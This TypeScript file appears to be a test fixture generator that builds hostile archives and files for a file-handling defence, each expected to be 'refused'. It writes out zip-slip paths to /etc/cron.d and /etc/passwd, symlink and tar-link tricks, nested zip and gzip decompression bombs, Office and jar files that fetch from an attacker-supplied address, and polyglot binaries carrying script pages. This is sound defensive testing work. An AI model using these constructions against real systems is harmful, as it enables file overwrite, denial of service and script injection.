import { deflateRawSync, gzipSync } from 'node:zlib'
import { ascii, be32, hostile, le16 } from './hostile-file.ts'
import type { HostileFile, Payload } from './hostile-file.ts'

const le32 = (value: number): Buffer => Buffer.from(be32(value)).reverse()

interface Member {
  readonly name: string
  readonly content: Buffer
  /** What it says of its length; the truth unless set. */
  readonly claimed?: number
  /** Of the external attributes: a symbolic link, say. */
  readonly mode?: number
}

function zip(...members: readonly Member[]): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let at = 0
  for (const { name, content, claimed = content.byteLength, mode = 0 } of members) {
    const packed = deflateRawSync(content)
    const title = Buffer.from(name)
    const facts = [
      le16(20),
      le16(0x800),
      le16(8),
      le32(0),
      le32(0),
      le32(packed.byteLength),
      le32(claimed),
      le16(title.byteLength),
      le16(0),
    ]
    const local = Buffer.concat([ascii('PK\u0003\u0004'), ...facts, title, packed])
    centrals.push(
      Buffer.concat([
        ascii('PK\u0001\u0002'),
        le16(20),
        ...facts,
        le16(0),
        le16(0),
        le16(0),
        le32(mode * 65_536),
        le32(at),
        title,
      ]),
    )
    locals.push(local)
    at += local.byteLength
  }
  const directory = Buffer.concat(centrals)
  const count = le16(members.length)
  const end = [ascii('PK\u0005\u0006'), le16(0), le16(0), count, count, le32(directory.byteLength), le32(at), le16(0)]
  return Buffer.concat([...locals, directory, ...end])
}

/** Archives, documents made of archives, and programs: whatever is in them, none is opened here. */
export function hostileArchives({ script, address }: Payload): readonly HostileFile[] {
  const page = Buffer.from(`<script>${script}</script>`)
  const zeros = Buffer.alloc(2_000_000)
  let nested = zip({ name: 'zeros', content: zeros })
  for (let depth = 0; depth < 12; depth++)
    nested = zip(...Array.from({ length: 6 }, (_, i) => ({ name: `${i}.zip`, content: nested })))
  const office = (type: string, part: string, relation: string): Buffer =>
    zip(
      {
        name: '[Content_Types].xml',
        content: Buffer.from(`<Types><Override PartName="/${part}" ContentType="${type}"/></Types>`),
      },
      {
        name: `${part}.rels`,
        content: Buffer.from(
          `<Relationships><Relationship TargetMode="External" Target="${relation}"/></Relationships>`,
        ),
      },
    )
  const tarHeader = Buffer.alloc(1024)
  tarHeader.write('link\0', 0)
  tarHeader.write('2/etc/passwd\0', 156)
  tarHeader.write('ustar\x0000', 257)
  const files: readonly (readonly [string, Buffer, string])[] = [
    [
      'out of its folder.zip',
      zip(
        { name: '../../../../etc/cron.d/x', content: page },
        { name: '/etc/passwd', content: page },
        { name: 'C:\\x', content: page },
      ),
      'application/zip',
    ],
    ['link.zip', zip({ name: 'x', content: Buffer.from('/etc/passwd'), mode: 0o120777 }), 'application/zip'],
    ['nested.zip', nested, 'application/zip'],
    [
      'liar.zip',
      zip({ name: 'x', content: zeros, claimed: 1 }, { name: 'x', content: page, claimed: 0xff_ff_ff_ff }),
      'application/zip',
    ],
    [
      'many names.zip',
      zip(...Array.from({ length: 2_000 }, (_, i) => ({ name: `${'d/'.repeat(100)}${i}`, content: page }))),
      'application/zip',
    ],
    [
      'page.docx',
      office('application/vnd.ms-word.document.macroEnabled', 'word/settings.xml', `${address}/template.dotm`),
      'text/html',
    ],
    [
      'sheet.xlsm',
      office('application/vnd.ms-excel.sheet.macroEnabled', 'xl/workbook.xml', `${address}/link.xlsx`),
      'text/html',
    ],
    [
      'book.epub',
      zip({ name: 'mimetype', content: Buffer.from('application/epub+zip') }, { name: 'x.xhtml', content: page }),
      'application/epub+zip',
    ],
    [
      'program.jar',
      zip({ name: 'META-INF/MANIFEST.MF', content: Buffer.from(`Main-Class: x\nClass-Path: ${address}/x.jar\n`) }),
      'application/java-archive',
    ],
    [
      'app.apk',
      zip(
        { name: 'AndroidManifest.xml', content: Buffer.from([3, 0, 8, 0]) },
        { name: 'classes.dex', content: Buffer.from('dex\n035\0') },
      ),
      'application/vnd.android.package-archive',
    ],
    [
      'extension.crx',
      Buffer.concat([ascii('Cr24'), le32(3), le32(0), zip({ name: 'manifest.json', content: page })]),
      'application/x-chrome-extension',
    ],
    ['link.tar', tarHeader, 'application/x-tar'],
    ['thrice.gz', gzipSync(gzipSync(gzipSync(Buffer.alloc(20_000_000)))), 'application/gzip'],
    [
      'sheet.xls',
      Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504), page]),
      'application/vnd.ms-excel',
    ],
    ['help.chm', Buffer.concat([ascii('ITSF\u0003\0\0\0'), page]), 'text/html'],
    [
      'film.swf',
      Buffer.concat([ascii('FWS\u0006'), le32(99), page, Buffer.from([0])]),
      'application/x-shockwave-flash',
    ],
    ['module.wasm', Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 8, 1, 0]), 'application/wasm'],
    ['program.exe', Buffer.concat([ascii('MZ\u0090\0'), Buffer.alloc(56), page]), 'text/html'],
    ['program', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), page]), 'text/html'],
    ['program.class', Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41]), page]), 'text/html'],
    ['database.sqlite', Buffer.concat([ascii('SQLite format 3\0'), page]), 'text/html'],
    ['font.woff2', Buffer.concat([ascii('wOF2\0\u0001\0\0'), page]), 'text/html'],
    ['icon.ico', Buffer.concat([Buffer.from([0, 0, 1, 0, 0xff, 0xff]), page]), 'text/html'],
    ['scan.tiff', Buffer.concat([ascii('II*\0'), le32(8), le16(0xff_ff), le32(8), page]), 'text/html'],
    [
      'vast.psd',
      Buffer.concat([ascii('8BPS\0\u0001'), Buffer.alloc(6), be32(0x00_ff_ff_ff), be32(300_000), page]),
      'text/html',
    ],
    ['vast.jxl', Buffer.concat([Buffer.from([0xff, 0x0a, 0xff, 0xff, 0xff, 0]), page]), 'image/jxl'],
    [
      'vast.qoi',
      Buffer.concat([ascii('qoif'), be32(0xff_ff_ff_ff), be32(0xff_ff_ff_ff), Buffer.from([3, 0])]),
      'image/qoi',
    ],
    [
      'vast.jp2',
      Buffer.concat([be32(12), ascii('jP  \r\n'), Buffer.from([0x87, 0x0a]), page, Buffer.from([0])]),
      'image/jp2',
    ],
  ]
  return files.map(([name, content, mimeType]) => hostile(`package ${name}`, content, 'refused', mimeType))
}
